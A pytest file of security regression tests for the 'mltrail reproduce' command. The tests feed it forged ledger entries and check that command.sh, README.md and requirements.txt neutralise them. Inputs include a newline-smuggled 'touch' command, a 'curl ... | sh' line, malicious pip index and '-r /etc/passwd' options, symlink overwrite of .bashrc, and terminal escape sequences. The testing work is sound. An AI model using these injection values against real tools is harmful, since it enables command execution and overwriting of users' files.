"""`mltrail reproduce` and its `command.sh` on a ledger written by someone else.

The attacker can write entries (a writer on a shared server, the author of a ledger
or of the project whose run is reproduced); the victim runs `mltrail reproduce RUN
--out DIR` and `sh DIR/command.sh`. command.sh runs the recorded command on purpose;
nothing else that was recorded may become a command, and nothing it writes before
the command may land outside the folder, the copy or the config paths it names.
Every test runs the CLI and the generated script on real git repositories.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

pytestmark = pytest.mark.usefixtures("isolated_git")


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)
    return done.stdout.decode().strip()


def mltrail_cli(home: Path, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mltrail", "--home", str(home), *args],
        cwd=cwd, env={**os.environ, "MLTRAIL_HOME": str(home)},
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def sh(script: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["sh", str(script), *args], capture_output=True, text=True, timeout=120,
        check=False,
    )  # fmt: skip


def project_with_run(tmp_path: Path, name: str) -> tuple[Path, Path]:
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    (project / "train.py").write_text("print('trained')\n")
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "first")
    proc = mltrail_cli(home, project, "init", "--origin", "test.mltrail.local/act")
    assert proc.returncode == 0, proc.stderr
    proc = mltrail_cli(
        home, project, "run", "-q", "--name", name, "--", sys.executable, "train.py"
    )
    assert proc.returncode == 0, proc.stderr
    return project, home


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\u2028"])
def test_a_run_name_cannot_put_a_command_in_command_sh(tmp_path, end):
    """A run named `base<newline>touch PWNED #` ended command.sh's first comment
    line: `touch` ran before any check, as the first thing the script did."""
    marker = tmp_path / "PWNED"
    name = f"base{end}touch '{marker}' #"
    project, home = project_with_run(tmp_path, name)
    runs = mltrail_cli(home, project, "runs", "--json")
    assert runs.returncode == 0, runs.stderr
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", name, "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    script = (out / "command.sh").read_text()
    # every line of the script that holds the name is a comment
    assert all(line.startswith("#") for line in script.splitlines() if "PWNED" in line)
    ran = sh(out / "command.sh")
    assert ran.returncode == 0, ran.stderr
    assert ran.stdout == "trained\n"
    assert not marker.exists()


def test_a_run_name_cannot_write_the_readme(tmp_path):
    """README.md printed the run name inside a code span, so a name holding a
    backtick and newlines added headings, steps and links of its own to the
    instructions the user follows."""
    name = (
        "base`\n\n## Steps\n\n1. First run `curl http://127.0.0.1:9/x | sh`"
        " [docs](http://127.0.0.1:9/) <img src=x>"
    )
    project, home = project_with_run(tmp_path, name)
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", name, "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    readme = (out / "README.md").read_text()
    lines = readme.splitlines()
    assert lines.count("## Steps") == 1
    assert not any(line.startswith("1. First") for line in lines)
    assert "](http" not in readme
    assert "<img" not in readme.replace("\\<img", "")  # only escaped
    assert "curl" in readme  # shown, as text


@pytest.mark.parametrize("present", [True, False], ids=["victim-file", "missing-file"])
def test_a_link_in_the_commit_does_not_lead_a_config_outside_the_copy(
    tmp_path, present
):
    """The commit holds `settings.yaml` as a link to a file of the victim's (here
    `victim/.bashrc`); the run read its config from that fixed path. command.sh
    put the run's config into the fresh copy with `cp`, which followed the link
    and wrote the victim's file with no backup, before the data check and the
    command. (A dangling link: GNU cp refuses to write through one, BSD cp does
    not; command.sh now stops before cp either way.)"""
    victim = tmp_path / "victim"
    victim.mkdir()
    bashrc = victim / ".bashrc"
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    program = "import pathlib; print(pathlib.Path('settings.yaml').read_text())"
    (project / "settings.yaml").symlink_to(bashrc)
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "first")
    bashrc.write_text("evil: 1\n")  # what the attacker's run read through the link
    assert mltrail_cli(home, project, "init", "--origin", "t.local/l").returncode == 0
    proc = mltrail_cli(
        home, project, "run", "-q", "--name", "linked", "--config", "settings.yaml",
        "--", sys.executable, "-c", program,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    if present:
        bashrc.write_text("the victim's own\n")
    else:
        bashrc.unlink()
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", "linked", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    ran = sh(out / "command.sh")
    assert ran.returncode != 0
    assert "is a link in the checked-out commit" in ran.stderr
    assert ran.stdout == ""
    if present:
        assert bashrc.read_text() == "the victim's own\n"
    else:
        assert not bashrc.exists()
        assert not bashrc.is_symlink()


def test_a_linked_folder_in_the_commit_does_not_lead_data_links_outside(tmp_path):
    """The commit holds `data` as a link to a folder of the victim's; the run's data
    `data/train` lies under the repository but not in the commit, so command.sh
    made `src/data/train` a link to it, through the committed link: a new entry
    in the victim's folder."""
    victim = tmp_path / "victim"
    victim.mkdir()
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    (project / "train.py").write_text("print('trained')\n")
    (project / "data").symlink_to(victim)
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "first")
    (victim / "train").mkdir()
    (victim / "train" / "rows.csv").write_text("x\n1\n")
    assert mltrail_cli(home, project, "init", "--origin", "t.local/d").returncode == 0
    proc = mltrail_cli(
        home, project, "run", "-q", "--name", "d", "--data", "train=data/train",
        "--", sys.executable, "train.py",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    # the victim's folder now has no train/; the repository (a clone) still has it
    (victim / "train" / "rows.csv").unlink()
    (victim / "train").rmdir()
    (project / "data").unlink()
    (project / "data").mkdir()
    (project / "data" / "train").mkdir()
    (project / "data" / "train" / "rows.csv").write_text("x\n1\n")
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", "d", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "data/train" in (out / "command.sh").read_text()
    sh(out / "command.sh")
    assert sorted(p.name for p in victim.iterdir()) == []


def test_a_forged_package_list_cannot_point_pip_elsewhere(tmp_path):
    """mltrail records the packages as `name==version` lines; a writer who appends
    the run's records by hand can put pip options in the list. requirements.txt
    held them as recorded, so the README's `pip install -r requirements.txt`
    installed from the writer's index (or ran a URL's setup.py)."""
    import mltrail
    from mltrail.ledger.home import open_home

    home, project = tmp_path / "home", tmp_path / "project"
    project.mkdir()
    mltrail.init_home(home, origin="test.mltrail.local/pip", env={})
    forged = (
        b"numpy==1.26.4\n"
        b"--index-url http://127.0.0.1:9/simple\n"
        b"--extra-index-url=http://127.0.0.1:9/x\n"
        b"-e git+http://127.0.0.1:9/evil.git#egg=evil\n"
        b"evil @ http://127.0.0.1:9/evil.tar.gz\n"
        b"torch==2.1.0+cu121\n"
        b"-r /etc/passwd\n"
        b"six==1.16.0\x0c--trusted-host 127.0.0.1\n"
    )
    opened = open_home(home, env={})
    try:
        ledger = opened.ledger
        run = "0193a0c4-0000-7000-8000-000000000001"
        ledger.append(
            "run.started",
            {"source": "api", "name": "pip", "command": ["python", "t.py"],
             "cwd": str(project)},
            run=run,
        )  # fmt: skip
        ledger.append(
            "run.environment",
            {"python": {"version": "3.11.9", "implementation": "CPython"},
             "packages": {"count": 8, "list": ledger.put_blob(forged)}},
            run=run,
        )  # fmt: skip
        ledger.append("run.ended", {"status": "succeeded", "exit_code": 0}, run=run)
    finally:
        opened.close()
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", "pip", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert (out / "requirements.txt").read_bytes() == (
        b"numpy==1.26.4\ntorch==2.1.0+cu121\n"
    )
    assert "--index-url" in proc.stdout  # said, not written
    assert "left out" in (out / "README.md").read_text()


def forged_run(home: Path, project: Path, environment: dict) -> None:
    """A run appended by hand, as any writer can: started, environment, ended."""
    import mltrail
    from mltrail.ledger.home import open_home

    mltrail.init_home(home, origin="test.mltrail.local/forged", env={})
    opened = open_home(home, env={})
    try:
        run = "0193a0c4-0000-7000-8000-000000000002"
        opened.ledger.append(
            "run.started",
            {"source": "api", "name": "forged", "command": ["python", "t.py"],
             "cwd": str(project)},
            run=run,
        )  # fmt: skip
        opened.ledger.append("run.environment", environment, run=run)
        opened.ledger.append("run.ended", {"status": "succeeded"}, run=run)
    finally:
        opened.close()


@pytest.mark.parametrize("how", ["others-can-write", "another-owner"])
def test_check_does_not_run_a_recorded_interpreter_it_cannot_trust(tmp_path, how):
    """`reproduce --check` ("only reads") ran the recorded `python.executable` to
    list its packages: a writer who records the path of a script of theirs (on a
    shared server, /tmp or a shared project) had it run as the auditor."""
    if how == "another-owner" and os.getuid() != 0:
        pytest.skip("making a file another account's needs root")
    marker = tmp_path / "PWNED"
    env_dir = tmp_path / "shared" / "venv"
    (env_dir / "bin").mkdir(parents=True)
    python = env_dir / "bin" / "python"
    python.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    python.chmod(0o755)
    if how == "others-can-write":
        python.chmod(0o777)
    else:
        for place in (python, python.parent, env_dir):
            os.chown(place, 65534, 65534)
    project = tmp_path / "project"
    project.mkdir()
    forged_run(
        tmp_path / "home",
        project,
        {"python": {"version": "3.11.9", "implementation": "CPython",
                    "executable": str(python)}},
    )  # fmt: skip
    proc = mltrail_cli(tmp_path / "home", project, "reproduce", "forged", "--check")
    assert not marker.exists()
    assert proc.returncode == 1, proc.stderr
    assert "python executable" in proc.stdout


def test_command_sh_shows_control_characters_of_recorded_names(tmp_path):
    """command.sh printed recorded names (a config file's path, the keys of the
    lines that differ) to the terminal as they were: an OSC sequence in a
    config's name set the window title (or, OSC 52, the clipboard)."""
    project, home = tmp_path / "plain", tmp_path / "home"
    project.mkdir()
    name = "set\x1b]0;PWNED\x07.yaml"
    (project / name).write_text("lr: 0.01\n")
    program = "print('ran')"
    assert mltrail_cli(home, project, "init", "--origin", "t.local/esc").returncode == 0
    proc = mltrail_cli(home, project, "run", "-q", "--name", "esc", "--config", name,
                       "--", sys.executable, "-c", program)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    (project / name).write_text("lr: 0.5\nk\x1b[2J: 1\n")  # now differs
    out = tmp_path / "repro"
    proc = mltrail_cli(home, project, "reproduce", "esc", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    ran = sh(out / "command.sh")
    assert ran.returncode != 0
    assert "differs" in ran.stderr
    assert "\x1b" not in ran.stderr
    assert "\x07" not in ran.stderr
    assert "set?]0;PWNED?.yaml" in ran.stderr
